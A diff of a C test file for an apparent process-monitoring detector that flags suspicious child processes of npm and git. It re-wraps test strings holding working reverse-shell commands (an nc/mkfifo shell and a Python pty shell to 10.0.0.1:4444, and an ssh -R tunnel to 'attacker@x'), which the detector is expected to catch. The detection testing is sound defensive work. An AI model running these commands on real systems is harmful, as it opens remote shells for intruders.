@@ -259,7 +259,8 @@ static void test_download_and_execute(void **state)
 
 static void test_reverse_shell(void **state)
 {
-	const char *fifo = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f";
+	const char *fifo = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|"
+			   "nc 10.0.0.1 4444 >/tmp/f";
 	const char *pty = "python3 -c import socket,os,pty;s=socket.socket();"
 			  "s.connect((\"10.0.0.1\",4444));pty.spawn(\"sh\")";
 	struct proc *npm = npm_root(), *sh;
@@ -379,7 +380,8 @@ static void test_quiet_fetches(void **state)
 		   "git clone --depth=1 ssh://git@github.com/acme/widgets.git /tmp/x");
 	expect_none(git);
 	expect_none(proc(git, &npm_sess, "/usr/bin/ssh",
-			 "ssh -o SendEnv=GIT_PROTOCOL git@github.com git-upload-pack 'acme/widgets.git'"));
+			 "ssh -o SendEnv=GIT_PROTOCOL git@github.com "
+			 "git-upload-pack 'acme/widgets.git'"));
 	expect(proc(git, &npm_sess, "/usr/bin/ssh", "ssh -R 4444:localhost:22 attacker@x"),
 	       RULE_PM_CHILD, SEV_HIGH, "network tool");
 	expect(proc(npm, &npm_sess, "/usr/bin/ssh", "ssh git@github.com git-upload-pack 'a.git'"),
